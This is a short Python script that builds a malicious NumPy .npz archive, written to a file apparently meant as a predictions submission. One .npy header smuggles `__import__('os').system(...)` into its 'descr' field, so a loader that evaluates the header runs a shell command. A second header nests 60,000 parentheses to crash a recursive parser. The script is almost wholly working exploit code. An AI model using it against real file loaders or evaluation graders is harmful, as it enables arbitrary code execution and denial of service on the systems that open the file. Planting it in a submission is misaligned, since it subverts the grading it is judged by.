"""A header is a Python literal: who evaluates it runs it, and who parses it recurses."""
import struct
import zipfile


COUNT = 400


def block(header, data=b"", version=(1, 0)):
    text = header.encode("latin-1")
    size = struct.pack("<H" if version == (1, 0) else "<I", len(text))
    return b"\x93NUMPY" + bytes(version) + size + text + data


def put(*entries):
    with zipfile.ZipFile("/work/predictions.npz", "w") as archive:
        for name, data in entries:
            archive.writestr(name, data)


evil = "{'descr': __import__('os').system('touch /tmp/owned'), 'fortran_order': False, 'shape': (400,), }\n"
deep = "{'descr': '<i8', 'fortran_order': False, 'shape': " + "(" * 60_000 + ")" * 60_000 + ", }\n"
put(("predictions.npy", block(evil, b"x" * 8 * COUNT)), ("more.npy", block(deep, b"", (2, 0))))
